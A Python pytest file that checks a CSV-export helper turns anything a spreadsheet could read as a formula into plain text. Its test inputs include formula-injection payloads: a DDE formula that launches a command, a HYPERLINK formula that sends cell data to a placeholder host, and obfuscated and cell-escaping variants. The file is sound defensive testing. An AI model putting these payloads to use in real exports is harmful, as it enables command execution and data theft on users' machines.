"""Row B17, the way out: what a stranger wrote is shown by a spreadsheet, never run."""

from __future__ import annotations

import csv
import io

import pytest

from web.http.csv_safety import safe_cell


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1", "＝1+1",
        "＋1", "－1", "＠1", '=HYPERLINK("http://x.example/?"&A1)', "-5", "\0=1", " \0=1",
    ],
)  # fmt: skip
def test_what_could_be_a_formula_becomes_text(text: str) -> None:
    assert safe_cell(text) == "'" + text.replace("\0", "")


@pytest.mark.parametrize("text", ["", " ", "chair-1", "a=b", "1-2", "Stuhl, blau", 'a "b"', "'=1", "椅子"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_a_cell_cannot_end_itself_and_begin_a_formula() -> None:
    file = io.StringIO()
    csv.writer(file).writerow([safe_cell('a",=1+1,"'), safe_cell("b\r\n=1+1")])
    assert list(csv.reader(io.StringIO(file.getvalue(), newline=""))) == [['a",=1+1,"', "b\r\n=1+1"]]
